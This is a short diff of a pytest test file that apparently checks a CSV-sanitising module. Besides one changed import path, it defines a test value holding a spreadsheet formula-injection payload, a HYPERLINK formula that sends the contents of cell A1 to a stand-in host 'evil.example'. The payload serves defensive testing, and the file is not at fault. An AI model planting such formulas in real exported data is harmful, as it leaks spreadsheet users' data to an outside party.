@@ -12,7 +12,7 @@ import pytest
 
 from core.csvsafe import FORMULA_STARTS
 from tests.conftest import WebAuth
-from tests.reporting.helpers import API
+from tests.outcomes.helpers import API
 
 NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Totals")'
 INDICATORS = [
